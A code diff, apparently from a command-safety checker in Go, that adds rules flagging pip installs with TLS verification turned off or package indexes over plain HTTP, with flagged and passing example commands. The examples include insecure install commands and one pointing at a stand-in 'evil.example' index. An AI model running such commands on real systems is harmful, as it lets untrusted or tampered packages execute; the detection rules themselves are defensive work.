@@ -95,6 +95,17 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 		), npmRegistry("npm", true)),
 	})
 	const pipConfigOpts = "-h:h --help:h --editor=x --global --user --site"
+	// pip's index options, as install and download take them.
+	const pipIndexOpts = "-i|--index-url=n --extra-index-url=n --trusted-host=n -f|--find-links=n --no-index"
+	pipIndexRaises := []Raise{
+		{Kind: danger.SecurityDisable, With: "--trusted-host", Medium: true, Why: "installs packages without TLS verification",
+			Flagged: []string{"pip install --trusted-host pypi.x.example foo", "pip install --trusted pypi.x.example foo", "pip install --trusted-host=pypi.x.example foo", "pip3 download --trusted-h x foo"},
+			Passes:  []string{"pip install foo", "pip install --index-url https://pypi.x.example/simple foo"}},
+		{Kind: danger.RemoteExec, With: "--index-url=http://* --extra-index-url=http://* --find-links=http://*", Medium: true, Why: "installs a package over plain HTTP",
+			Flagged: []string{"pip install --index-url http://x.example/simple foo", "pip install -ihttp://x.example/simple foo", "pip install --index-url=http://x.example/simple foo",
+				"pip install --extra-index-url=http://x.example/simple foo", "pip install --extra http://x.example/simple foo", "pip install -f http://x.example/wheels foo"},
+			Passes: []string{"pip install -i https://x.example/simple foo", "pip install --find-links ./wheels foo"}},
+	}
 	pipConfigSet := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
 		Raises: []Raise{{Kind: danger.SecurityDisable, Operand: "*trusted-host* *cert*", Last: true, Why: "turns off TLS checking for pip",
 			Flagged: []string{"pip config set global.trusted-host pypi.x.example", "pip config set --user global.cert /tmp/ca.pem", "pip3 config --user set install.trusted-host x", "sudo pip config set global.trusted-host x"},
@@ -159,7 +170,12 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 			Subcommands: subs("list", &Spec{Permute: true, Operands: "", Options: "-o:n --outdated:n -u:n --uptodate:n -e --editable -l --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= -h:h --help:h"},
 				"show", &Spec{Permute: true, Operands: "-*", Options: "-f --files -h:h --help:h"}, "freeze", &Spec{Permute: true, Operands: "", Options: "-l --local --user --all --exclude-editable --exclude= --path= -h:h --help:h"},
 				"check", &Spec{Operands: ""}, "help", &Spec{Operands: "-*"},
-				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: "-i=n --index-url=n --extra-index-url=n --break-system-packages"}, "download", &Spec{Effect: Network, Operands: "-*", Loose: true},
+				// pip 23.2 (optparse, tried): a unique prefix of a long option is
+				// the option (pip list --form json, --trusted-h x) and a short
+				// one's value may be attached (-ihttp://…): the dangers of
+				// the options are the entry's, in every spelling.
+				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: pipIndexOpts + " --break-system-packages", Raises: pipIndexRaises},
+				"download", &Spec{Effect: Network, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: pipIndexOpts, Raises: pipIndexRaises},
 				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", pipConfig, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
 			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
 	)
